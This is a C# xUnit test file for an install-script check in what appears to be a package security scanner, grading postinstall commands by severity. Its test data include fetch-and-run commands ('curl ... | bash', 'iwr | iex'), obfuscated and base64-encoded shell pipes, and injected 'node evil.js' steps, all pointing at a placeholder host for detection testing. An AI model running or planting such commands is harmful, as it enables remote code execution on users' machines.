using Mtf.Artifacts;
using Mtf.Checks.Behavior.InstallScript;
using Mtf.Findings;
using Mtf.Inventories;
using Xunit;

namespace Mtf.Tests.Checks.Behavior;

public sealed class InstallScriptTests
{
    [Theory]
    [InlineData("curl -sL https://acme.test/x | bash", Severity.Critical)]
    [InlineData("wget https://acme.test/x -O x && chmod +x x && ./x", Severity.Critical)]
    [InlineData("curl -O https://acme.test/model.bin", Severity.High)]
    [InlineData("c''url -s https://acme.test/x | s\\h", Severity.Critical)]
    [InlineData("echo ZWNobyBoaQ== | base64 -d | sh", Severity.High)]
    [InlineData("powershell -c \"iwr https://acme.test/x | iex\"", Severity.Critical)]
    [InlineData("echo 'Thank you. See https://acme.test'", Severity.Info)]
    [InlineData("echo see: curl https://acme.test/x, then sh x", Severity.Info)]
    [InlineData("powershell -enc SQBFAFgA", Severity.High)]
    [InlineData("node -e \"eval(atob('YQ=='))\"", Severity.High)]
    [InlineData("node -e \"require('./dist/setup')\"", Severity.Medium)]
    [InlineData("node scripts/postinstall.js", Severity.Medium)]
    [InlineData("node-gyp rebuild", Severity.Low)]
    [InlineData("prebuild-install || node-gyp rebuild", Severity.Low)]
    [InlineData("node-gyp-build", Severity.Low)]
    [InlineData("prebuild-install && node evil.js", Severity.Medium)]
    [InlineData("husky install", Severity.Info)]
    [InlineData("husky || true", Severity.Info)]
    [InlineData("husky; node evil.js", Severity.Medium)]
    [InlineData("patch-package", Severity.Info)]
    public void Judges_a_script_by_what_it_does(string command, Severity severity)
    {
        var inventory = new Inventory { Name = "example", InstallScripts = new Dictionary<string, string> { ["postinstall"] = command } };

        var result = new InstallScriptCheck().Run(TestEvidence.Of(new MemoryTree(("package.json", "{}")), inventory));

        Assert.Equal(severity, Assert.Single(Assert.IsType<Evidence<IReadOnlyList<Finding>>.Collected>(result).Value).Severity);
    }
}
